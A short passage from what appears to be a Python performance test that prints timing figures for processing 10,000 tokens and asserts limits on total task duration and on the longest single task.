    print(f"10,000 tokens in {seconds} s: {cost} ms, longest task {longest:.0f} ms")
    assert cost["TaskDuration"] < 5 * 150
    assert longest < 20 * 50  # by the clock on the wall, which counts what others do as well
